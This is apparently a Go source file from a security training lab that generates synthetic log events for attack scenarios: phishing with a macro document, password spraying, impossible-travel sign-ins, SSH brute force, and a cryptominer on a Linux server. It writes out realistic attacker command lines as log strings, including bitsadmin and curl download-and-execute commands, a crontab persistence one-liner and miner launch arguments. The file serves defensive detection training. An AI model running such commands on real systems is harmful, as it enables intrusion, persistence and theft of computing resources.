package lab

// This file plants the scenarios outside the on-premises intrusion: the
// phishing document, the cloud account takeover, the internet scanner
// and the compromise of the Linux web server.

import (
	"fmt"
	"time"
)

func plantPhishing(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	h, u := p.phishHost, p.phishUser
	c := g.on(h, r)
	acct := &u.account
	home := userProfile(acct)
	t := p.tPhish
	doc := attackerFile(home+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\QX3T2L0A\Freight_Invoice_88213.docm`, 48213, "", "")
	c.fileEvent(p.phishOutlook, add(t, -40*time.Second), "FileCreated", doc, nil)
	word := c.spawn(p.phishOutlook, img("WINWORD.EXE"), fmt.Sprintf(`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "%s" /o ""`, doc.Path), t, acct)
	url := "http://" + phishDLIP + "/ms/kb5031455.exe"
	payload := attackerFile(home+`\AppData\Roaming\kb5031455.exe`, 412160, "Microsoft Corporation", "Windows Update Assistant")
	cmd := c.spawn(word, img("cmd.exe"), `cmd.exe /c bitsadmin /transfer updjob /download /priority high `+url+` %APPDATA%\kb5031455.exe && %APPDATA%\kb5031455.exe`, add(t, 25*time.Second), acct)
	c.spawn(cmd, img("bitsadmin.exe"), `bitsadmin  /transfer updjob /download /priority high `+url+` `+payload.Path, add(t, 26*time.Second), acct)
	bits := h.sys.bits
	c.connect(bits, add(t, 28*time.Second), "ConnectionSuccess", phishDLIP, 80, "")
	c.fileEvent(bits, add(t, 34*time.Second), "FileCreated", payload, &fileOp{OriginURL: url, OriginIP: phishDLIP})
	pl := c.spawn(cmd, payload, payload.Path, add(t, 40*time.Second), acct)
	c.dnsQuery(pl, add(t, 44*time.Second), phishC2, phishC2IP)
	for at := add(t, 45*time.Second); at < add(t, 35*time.Minute); at = add(at, r.dur(50*time.Second, 75*time.Second)) {
		c.connect(pl, at, "ConnectionSuccess", phishC2IP, 443, phishC2)
	}
	sc.Entities = Entities{Devices: []string{h.Name}, Accounts: []string{acctName(acct)}, IPs: []string{phishDLIP, phishC2IP},
		Domains: []string{phishC2}, Hashes: []string{doc.SHA256, payload.SHA256}, Files: []string{doc.Path, payload.Path}}
}

var (
	placeSpray  = place{"Amsterdam", "North Holland", "NL", 52.3676, 4.9041, sprayIP, "206264"}
	placeTravel = place{"Singapore", "Singapore", "SG", 1.3521, 103.8198, travelIP, "45102"}
)

func plantSpray(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	users := append([]*user(nil), g.fleet.users...)
	r.r.Shuffle(len(users), func(i, j int) { users[i], users[j] = users[j], users[i] })
	hit := users[len(users)/3]
	t := p.tSpray
	var accts []string
	try := func(upn, display, id, result string) {
		t = add(t, r.dur(6*time.Second, 40*time.Second))
		s := &signin{upn: upn, display: display, userID: id, app: appAADPS, ip: sprayIP, loc: placeSpray, result: result,
			client: "Mobile Apps and Desktop clients", proto: "ropc", ua: "python-requests/2.31.0"}
		g.addSignin(r, t, s)
		accts = append(accts, upn)
	}
	for i, u := range users {
		res := "50126"
		if u == hit {
			res = "50076" // the password was right; MFA stopped it
		}
		try(u.Upn, u.Display, u.ObjectID, res)
		if i%12 == 5 {
			name := []string{"admin", "test", "helpdesk", "scanner", "it.support", "backup"}[(i/12)%6]
			try(name+"@"+upnSuffix, "", "", "50034")
		}
	}
	sc.Entities = Entities{Accounts: accts, IPs: []string{sprayIP}}
}

func plantTravel(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	u := p.travelUser
	s := g.signinAt(r, u, p.tTravel, placeTravel, appPortal, "0")
	s.dev, s.os, s.browser, s.mfa = nil, "Linux", "Chrome 130.0.0", true
	s.ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"
	s.risk, s.riskEvents = "medium", []string{"unfamiliarFeatures"}
	g.addSignin(r, p.tTravel, s)
	sc.Entities = Entities{Accounts: []string{u.Upn}, IPs: []string{travelIP}}
}

// ownerRole is the built-in Owner role definition.
const ownerRole = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"

func plantOwner(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	u := p.travelUser
	o := g.roleAssignment(r, ownerRole, u.ObjectID)
	o.caller, o.callerIP, o.callerName, o.objID, o.rg = u.Upn, travelIP, u.Display, u.ObjectID, ""
	g.addOperation(r, add(p.tTravel, 12*time.Minute), o)
	sc.Entities = Entities{Accounts: []string{u.Upn}, IPs: []string{travelIP}}
}

func plantMaliciousFlows(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	from, to := g.at(0.25, 0, 0, 0), p.tSSH
	ports := []struct {
		port    int
		l7      string
		allowed bool
	}{{22, "ssh", true}, {3389, "rdp", false}, {445, "smb", false}, {23, "telnet", false}, {5900, "vnc", false}, {1433, "mssql", false}}
	for iv := hourOf(from); iv <= hourOf(add(to, time.Hour)); iv = add(iv, flowInterval) {
		if !r.chance(0.35) && iv != hourOf(to) {
			continue
		}
		for _, pt := range ports {
			if !pt.allowed && !r.chance(0.5) {
				continue
			}
			n := r.between(1, 6)
			if iv == hourOf(to) && pt.port == 22 {
				n = 90
			}
			rule, ruleType := "defaultsecurityrules_denyallinbound", "Default"
			if pt.allowed {
				rule, ruleType = "userrule_allow-ssh-inbound", "User Defined"
			}
			f := &flow{typ: "MaliciousFlow", dst: p.web, publicIP: scannerIP, inbound: true, port: pt.port, l4: "T", l7: pt.l7,
				allowed: pt.allowed, rule: rule, ruleType: ruleType, country: "BG", flows: n, inPk: int64(n * 3), outPk: int64(n * 4),
				inB: int64(n * 180), outB: int64(n * 240), ivStart: iv}
			if !pt.allowed {
				f.inPk, f.inB = 0, 0
			}
			g.addFlow(r, f)
		}
	}
	sc.Entities = Entities{Devices: []string{p.web.Name}, IPs: []string{scannerIP}}
}

func plantSSHBrute(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.web, r)
	sshd := p.web.sys.sshd
	names := []string{"root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "deploy", "user", "ftpuser", "www"}
	success := add(p.tSSH, 34*time.Minute)
	for i, t := 0, p.tSSH; t < add(success, -30*time.Second); i, t = i+1, add(t, r.dur(9*time.Second, 26*time.Second)) {
		port := r.between(30000, 65000)
		c.accept(sshd, t, scannerIP, port, 22)
		c.logon(add(t, 2*time.Second), logonEv{action: "LogonFailed", ltype: "Network", failure: "InvalidUserNameOrPassword",
			acct: linuxUser(p.web, names[i%len(names)]), remoteIP: scannerIP, remotePort: port, init: sshd})
	}
	port := r.between(30000, 65000)
	c.accept(sshd, add(success, -2*time.Second), scannerIP, port, 22)
	c.logon(success, logonEv{action: "LogonSuccess", ltype: "Network", acct: p.webUser, remoteIP: scannerIP, remotePort: port, init: sshd})
	c.created(p.webShell.Parent)
	c.created(p.webShell)
	sc.Entities = Entities{Devices: []string{p.web.Name}, Accounts: []string{acctName(p.webUser)}, IPs: []string{scannerIP}}
}

func plantMiner(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.web, r)
	u := p.webUser
	t := add(p.webShell.Created, 6*time.Minute)
	dl := "http://" + minerDLIP + "/x.sh"
	curl := c.spawn(p.webShell, img("curl"), "curl -fsSL "+dl, t, u)
	c.connect(curl, add(t, 300*time.Millisecond), "ConnectionSuccess", minerDLIP, 80, "")
	sh := c.spawn(p.webShell, img("bash"), "bash", add(t, 10*time.Millisecond), u)
	get := c.spawn(sh, img("curl"), "curl -fsSL -o /tmp/.x/kswapd0 http://"+minerDLIP+"/kswapd0", add(t, 2*time.Second), u)
	c.connect(get, add(t, 2300*time.Millisecond), "ConnectionSuccess", minerDLIP, 80, "")
	c.fileEvent(get, add(t, 4*time.Second), "FileCreated", minerFile, &fileOp{OriginURL: "http://" + minerDLIP + "/kswapd0", OriginIP: minerDLIP})
	c.spawn(sh, img("chmod"), "chmod +x /tmp/.x/kswapd0", add(t, 5*time.Second), u)
	cron := c.spawn(sh, img("bash"), `bash -c (crontab -l 2>/dev/null; echo "*/30 * * * * /tmp/.x/kswapd0 -B >/dev/null 2>&1") | crontab -`, add(t, 6*time.Second), u)
	ct := c.spawn(cron, img("crontab"), "crontab -", add(t, 6*time.Second+20*time.Millisecond), u)
	tab := newFile("/var/spool/cron/crontabs/"+u.Name, "attacker|crontab", 213)
	c.fileEvent(ct, add(t, 6100*time.Millisecond), "FileModified", tab, nil)
	miner := c.spawn(sh, minerFile, "/tmp/.x/kswapd0 -o "+minerPool+":3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p web01 --donate-level 1 -B",
		add(t, 8*time.Second), u)
	for at := add(t, 9*time.Second); at < add(g.end, -time.Minute); at = add(at, r.dur(70*time.Minute, 170*time.Minute)) {
		c.dnsQuery(miner, at, minerPool, minerPoolIP)
		c.connect(miner, add(at, 80*time.Millisecond), "ConnectionSuccess", minerPoolIP, 3333, minerPool)
	}
	sc.Entities = Entities{Devices: []string{p.web.Name}, Accounts: []string{acctName(u)}, IPs: []string{minerDLIP, minerPoolIP},
		Domains: []string{minerPool}, Hashes: []string{minerFile.SHA256}, Files: []string{minerFile.Path, tab.Path}}
}
